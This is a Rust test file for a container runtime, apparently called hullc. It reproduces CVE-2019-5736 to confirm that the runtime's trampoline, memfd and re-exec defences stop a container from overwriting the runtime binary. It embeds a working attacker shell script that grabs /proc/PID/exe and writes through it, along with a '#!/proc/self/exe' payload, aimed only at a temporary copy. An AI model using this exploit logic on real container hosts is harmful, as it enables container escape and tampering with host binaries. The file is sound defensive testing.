//! CVE-2019-5736 reproduced (issue 5): a container whose program is
//! `#!/proc/self/exe` makes the kernel run hullc's own binary inside the
//! container; an attacker there keeps an fd of that process' /proc/PID/exe
//! and, once it has exited, reopens the fd for writing. The process making
//! the final execve must not be running hullc's file (exeseal.rs): it runs
//! the exec trampoline, a sealed memfd (trampoline.rs), or, when the config
//! rules that out, hullc re-execs itself from a copy that cannot be written.
//!
//! The attack targets a *copy* of hullc in a temp dir, never the build's
//! binary. The victim is held still by a full pipe on its stderr until the
//! attacker has its fd: under the fallback, hullc's usage error blocks
//! there; the trampoline exits at once when it runs as an interpreter, so
//! its tests run it through `/bin/2` -> `/proc/self/exe` with argv `2
//! /nonexistent`, which makes it try `/nonexistent` and block writing its
//! errno report to fd 2.

mod common;

use std::fs;
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use common::{Bundle, Hullc};
use serde_json::json;

/// The attacker: $1 is the victim's pid, or empty to find the first
/// process whose exe is not busybox. Grabs /proc/PID/exe, waits for the
/// victim to be gone, then tries to write through the fd (retrying while
/// the file is busy, as the original exploit does until runc exits).
const ATTACK: &str = r#"
p=$1
while [ -z "$p" ]; do
  for d in /proc/[0-9]*; do
    l=$(readlink $d/exe 2>/dev/null) || continue
    case "$l" in ""|/bin/busybox) continue ;; esac
    p=${d#/proc/}; break
  done
  [ -n "$p" ] || sleep 0.05
done
until readlink /proc/$p/exe >/dev/null 2>&1; do sleep 0.05; done
exec 4</proc/$p/exe
echo "$p $(readlink /proc/self/fd/4)" >/tmp/grabbed
while readlink /proc/$p/exe >/dev/null 2>&1; do sleep 0.05; done
i=0
while :; do
  if printf PWNED 2>/tmp/err 1<>/proc/self/fd/4; then echo written >/tmp/result; break; fi
  if grep -q busy /tmp/err && [ $i -lt 200 ]; then i=$((i+1)); sleep 0.05; continue; fi
  echo "refused: $(cat /tmp/err)" >/tmp/result; break
done
sleep 1000
"#;

/// The attacker facing the trampoline: $1 is the victim's pid, or empty to
/// find the process running `2 /nonexistent x` (the trampoline run as
/// `/proc/self/exe`, blocked on its report). The trampoline makes itself
/// non-dumpable, so its /proc/PID/exe must not even be readable: a memfd
/// would be harmless, but the same access would hand over its fds (the
/// caller's channel) through pidfd_getfd.
const PROBE: &str = r#"
p=$1
while [ -z "$p" ]; do
  for d in /proc/[0-9]*; do
    [ "$(tr '\0' ' ' <$d/cmdline 2>/dev/null)" = "2 /nonexistent x " ] || continue
    p=${d#/proc/}; break
  done
  [ -n "$p" ] || sleep 0.05
done
until [ "$(tr '\0' ' ' </proc/$p/cmdline)" = "2 /nonexistent x " ]; do sleep 0.05; done
if l=$(readlink /proc/$p/exe 2>&1); then echo "$p $l" >/tmp/grabbed; else echo "$p unreachable" >/tmp/grabbed; fi
sleep 1000
"#;

/// The victim's argv: `/bin/2` links to `/proc/self/exe`, so the trampoline
/// runs again with `2 /nonexistent x`: it takes fd 2 for its channel, fails
/// to exec `/nonexistent` and blocks writing its report to a full pipe.
const VICTIM: &[&str] = &["2", "/nonexistent", "x"];

/// A copy of hullc in its own temp dir: the attack's target.
struct Target {
    _dir: Option<tempfile::TempDir>,
    path: PathBuf,
    original: Vec<u8>,
}

impl Target {
    fn new() -> Target {
        let dir = tempfile::Builder::new()
            .prefix("hullc-exe-")
            .tempdir()
            .expect("tempdir");
        let mut t = Target::in_dir(dir.path());
        t._dir = Some(dir);
        t
    }

    /// The copy in `dir`, e.g. the harness' scratch dir: that is the parent
    /// of the state root, and overlayfs refuses nested layers, so hullc falls
    /// back to its sealed memfd copy.
    fn in_dir(dir: &Path) -> Target {
        let path = dir.join("hullc");
        fs::copy(common::HULLC, &path).expect("copy hullc");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("chmod");
        let original = fs::read(&path).expect("read copy");
        Target {
            _dir: None,
            path,
            original,
        }
    }

    fn cmd(&self, h: &Hullc, args: &[&str], out: &str) -> Command {
        let mut c = Command::new(&self.path);
        c.arg("--root").arg(h.root()).args(args);
        c.env("HULL_TEST_TAG", &h.tag).stdin(Stdio::null());
        let f = fs::File::create(h.scratch().join(out)).expect("output file");
        c.stdout(f.try_clone().expect("dup")).stderr(f);
        c
    }

    #[track_caller]
    fn assert_intact(&self) {
        let now = fs::read(&self.path).expect("read copy");
        assert!(
            now == self.original,
            "the container wrote to hullc's binary (first bytes now {:?})",
            &now[..8.min(now.len())]
        );
    }
}

/// The bundle: busybox, the dynamic loader and libraries hullc needs (so
/// the kernel can run it in the container), `/evil` = `#!/proc/self/exe`
/// and `/attack.sh`.
fn bundle(h: &Hullc, t: &Target) -> Bundle {
    let b = Bundle::new(h);
    let ldd = Command::new("ldd").arg(&t.path).output().expect("ldd");
    for lib in String::from_utf8_lossy(&ldd.stdout)
        .split_whitespace()
        .filter(|w| w.starts_with('/'))
    {
        let dst = b.rootfs().join(lib.trim_start_matches('/'));
        fs::create_dir_all(dst.parent().expect("lib dir")).expect("mkdir lib dir");
        fs::copy(lib, &dst).expect("copy library");
    }
    let evil = b.rootfs().join("evil");
    fs::write(&evil, "#!/proc/self/exe\n").expect("write /evil");
    fs::set_permissions(&evil, fs::Permissions::from_mode(0o755)).expect("chmod /evil");
    std::os::unix::fs::symlink("/proc/self/exe", b.rootfs().join("bin/2")).expect("/bin/2");
    fs::write(b.rootfs().join("attack.sh"), ATTACK).expect("write /attack.sh");
    fs::write(b.rootfs().join("probe.sh"), PROBE).expect("write /probe.sh");
    b
}

/// A seccomp profile that refuses execveat: the trampoline cannot be used
/// (exeseal::trampoline_usable), so hullc falls back to its re-exec.
fn refuse_execveat(b: &mut Bundle) {
    b.config["linux"]["seccomp"] = json!({
        "defaultAction": "SCMP_ACT_ALLOW",
        "syscalls": [{"names": ["execveat"], "action": "SCMP_ACT_ERRNO"}],
    });
}

/// A pipe whose buffer is full: a process writing to it blocks until we
/// drain it.
fn full_pipe() -> (fs::File, OwnedFd) {
    let (r, w) = nix::unistd::pipe().expect("pipe");
    let set_nonblock = |on: bool| {
        let flags = if on { libc::O_NONBLOCK } else { 0 };
        // SAFETY: fcntl(F_SETFL) on our own pipe fd.
        unsafe { libc::fcntl(w.as_raw_fd(), libc::F_SETFL, flags) };
    };
    set_nonblock(true);
    let mut wf = fs::File::from(w.try_clone().expect("dup"));
    let page = [b'x'; 4096];
    while wf.write(&page).is_ok() {}
    while wf.write(&page[..1]).is_ok() {}
    set_nonblock(false);
    (fs::File::from(r), w)
}

fn wait_file(p: &Path, what: &str) -> String {
    common::wait_until(what, Duration::from_secs(30), || p.exists());
    // Written with one echo; give it a moment to be complete.
    std::thread::sleep(Duration::from_millis(50));
    fs::read_to_string(p).unwrap_or_default()
}

/// Reads the pipe to EOF in the background (frees the blocked victim).
fn drain(mut r: fs::File) -> std::thread::JoinHandle<()> {
    std::thread::spawn(move || {
        let mut sink = Vec::new();
        let _ = r.read_to_end(&mut sink);
    })
}

#[track_caller]
fn assert_refused(b: &Bundle, t: &Target) {
    let result = wait_file(&b.rootfs().join("tmp/result"), "the attacker's result");
    assert!(
        result.starts_with("refused"),
        "the attacker could write through /proc/PID/exe: {result}"
    );
    t.assert_intact();
}

/// The trampoline: `hullc exec ID 2 /nonexistent x` runs it twice (the
/// second time as `/proc/self/exe`); init (the attacker) finds the second,
/// blocked on its report, and cannot even read its exe link.
#[test]
fn exec_of_proc_self_exe_reaches_only_the_trampoline() {
    let h = Hullc::new();
    let t = Target::new();
    let mut b = bundle(&h, &t);
    let (grabbed, id) = exec_probe(&h, &t, &mut b);
    assert!(
        grabbed.ends_with(" unreachable"),
        "the trampoline's exe was readable: {grabbed}"
    );
    t.assert_intact();
    // `#!/proc/self/exe` runs the trampoline as the interpreter: its argv
    // is not the protocol's, so it exits 126 (hullc would print its usage).
    let out = t.cmd(&h, &["exec", &id, "/evil"], "evil.out").status();
    assert_eq!(out.expect("exec /evil").code(), Some(126));
    finish(&h, &b, &id);
}

/// Runs `probe.sh` as the container and `hullc exec ID 2 /nonexistent x`
/// against it; returns what the probe saw and the container's id.
fn exec_probe(h: &Hullc, t: &Target, b: &mut Bundle) -> (String, String) {
    exec_victim(h, t, b, "/probe.sh", VICTIM, |_| {})
}

/// The fallback re-exec from the private overlayfs (a seccomp profile
/// refuses execveat, so no trampoline): the victim is hullc's copy.
#[test]
fn exec_of_proc_self_exe_cannot_write_the_binary_reexec() {
    let h = Hullc::new();
    let t = Target::new();
    let mut b = bundle(&h, &t);
    refuse_execveat(&mut b);
    let (grabbed, id) = exec_attack(&h, &t, &mut b, &["/evil"]);
    assert!(
        grabbed.ends_with(" /hullc"),
        "not the overlay copy: {grabbed}"
    );
    finish(&h, &b, &id);
}

/// The same with the memfd copy (overlayfs impossible for this layout).
#[test]
fn exec_of_proc_self_exe_cannot_write_the_binary_reexec_memfd() {
    let h = Hullc::new();
    let t = Target::in_dir(h.scratch());
    let mut b = bundle(&h, &t);
    refuse_execveat(&mut b);
    let (grabbed, id) = exec_attack(&h, &t, &mut b, &["/evil"]);
    assert!(
        grabbed.contains(" /memfd:hullc (deleted)"),
        "not the memfd copy: {grabbed}"
    );
    finish(&h, &b, &id);
}

/// Runs the exec attack on `victim` against `t`; returns "PID LINK" of
/// what was grabbed, and the container's id.
fn exec_attack(h: &Hullc, t: &Target, b: &mut Bundle, victim: &[&str]) -> (String, String) {
    exec_victim(h, t, b, "/attack.sh", victim, |b| assert_refused(b, t))
}

/// Runs `script` as the container, then `hullc exec ID VICTIM...` with a
/// full pipe on its stdout and stderr; once the script has written
/// /tmp/grabbed, drains the pipe and calls `then` while the victim ends.
fn exec_victim(
    h: &Hullc,
    t: &Target,
    b: &mut Bundle,
    script: &str,
    victim: &[&str],
    then: impl FnOnce(&Bundle),
) -> (String, String) {
    b.args(&["sh", script]);
    b.config["process"]["env"]
        .as_array_mut()
        .expect("env")
        .push(json!("PATH=/bin"));
    b.save();
    let id = h.id("cve5736e");
    h.track(&id);
    let bundle = b.path().to_str().expect("utf-8");
    let st = t
        .cmd(h, &["run", "-d", "-b", bundle, &id], "run.out")
        .status()
        .expect("run");
    assert!(st.success(), "hullc run -d failed");
    let (r, w) = full_pipe();
    let mut args = vec!["exec", &id];
    args.extend_from_slice(victim);
    let mut exec = t.cmd(h, &args, "exec.out");
    exec.stdout(Stdio::from(w.try_clone().expect("dup")))
        .stderr(Stdio::from(w));
    let mut victim = exec.spawn().expect("spawn exec");
    drop(exec); // its copies of the pipe's write end
    let grabbed = wait_file(&b.rootfs().join("tmp/grabbed"), "the attacker's result");
    let drained = drain(r);
    then(b);
    let _ = victim.wait();
    drained.join().expect("drain");
    (grabbed.trim().to_string(), id)
}

fn finish(h: &Hullc, b: &Bundle, id: &str) {
    h.cmd(&["delete", "--force", id]).ok();
    common::assert_clean(h, b, &[id]);
}

/// The container's init is the trampoline run as `/proc/self/exe` (`2
/// /nonexistent x`), blocked on its report; the probe, exec'd into the
/// container, cannot read its exe link. No pid namespace (as a shared one
/// would be): the probe finds init by its host pid.
#[test]
fn init_of_proc_self_exe_reaches_only_the_trampoline() {
    let h = Hullc::new();
    let t = Target::new();
    let mut b = bundle(&h, &t);
    b.remove_namespace("pid");
    b.args(VICTIM);
    b.config["process"]["env"]
        .as_array_mut()
        .expect("env")
        .push(json!("PATH=/bin"));
    b.save();
    let id = h.id("cve5736i");
    h.track(&id);
    let bundle = b.path().to_str().expect("utf-8");
    let (r, w) = full_pipe();
    let mut run = t.cmd(&h, &["run", "-d", "-b", bundle, &id], "run.out");
    run.stdout(Stdio::from(w.try_clone().expect("dup")))
        .stderr(Stdio::from(w));
    let st = run.status().expect("run");
    drop(run); // its copies of the pipe's write end
    assert!(st.success(), "hullc run -d failed");
    let pid = h.state(&id)["pid"].as_i64().expect("pid").to_string();
    let st = t
        .cmd(
            &h,
            &["exec", "-d", &id, "sh", "/probe.sh", &pid],
            "exec.out",
        )
        .status()
        .expect("exec");
    assert!(st.success(), "hullc exec -d failed");
    let grabbed = wait_file(&b.rootfs().join("tmp/grabbed"), "the probe's result");
    assert!(
        grabbed.trim().ends_with(" unreachable"),
        "the trampoline's exe was readable: {grabbed}"
    );
    t.assert_intact();
    let drained = drain(r);
    drained.join().expect("drain");
    finish(&h, &b, &id);
}

/// A program the kernel cannot execute fails `run`, `start` and `exec` with
/// the messages and exit codes of a direct execve (checked against the
/// build before the trampoline), through the trampoline's errno report and
/// through the fallback re-exec alike.
#[test]
fn an_unexecutable_program_fails_as_before() {
    let h = Hullc::new();
    for fallback in [false, true] {
        let mut b = Bundle::new(&h);
        let garbage = b.rootfs().join("garbage");
        fs::write(&garbage, b"garbage\x01\x02 not an executable\n").expect("write");
        let interp = b.rootfs().join("badinterp");
        fs::write(&interp, "#!/nonexistent/interpreter\n").expect("write");
        for f in [&garbage, &interp] {
            fs::set_permissions(f, fs::Permissions::from_mode(0o755)).expect("chmod");
        }
        if fallback {
            refuse_execveat(&mut b);
        }
        let enoexec = r#"process.args: exec "/garbage": exec format error"#;
        let enoent = r#"process.args: exec "/badinterp": no such file or directory"#;
        b.args(&["/garbage"]);
        let id = h.id("noexec");
        let out = h.run(&b, &id, &[]);
        assert_eq!(out.code(), Some(1), "run: {}", out.stderr);
        assert_eq!(
            out.stderr,
            format!("hullc: starting container process: {enoexec}\n")
        );
        assert!(!h.root().join(&id).exists(), "run left its container");
        b.args(&["/badinterp"]);
        h.create(&b, &id, &[]).ok();
        let out = h.cmd(&["start", &id]);
        assert_eq!(out.code(), Some(1), "start: {}", out.stderr);
        assert_eq!(
            out.stderr,
            format!("hullc: starting container process: {enoent}\n")
        );
        h.cmd(&["delete", "--force", &id]).ok();
        b.args(&["sleep", "1000"]);
        h.run(&b, &id, &["-d"]).ok();
        for (prog, msg) in [("/garbage", enoexec), ("/badinterp", enoent)] {
            let out = h.cmd(&["exec", &id, prog]);
            assert_eq!(out.code(), Some(255), "exec {prog}: {}", out.stderr);
            assert_eq!(out.stderr, format!("hullc: {msg}\n"));
        }
        h.cmd(&["exec", &id, "true"]).ok();
        finish(&h, &b, &id);
    }
}
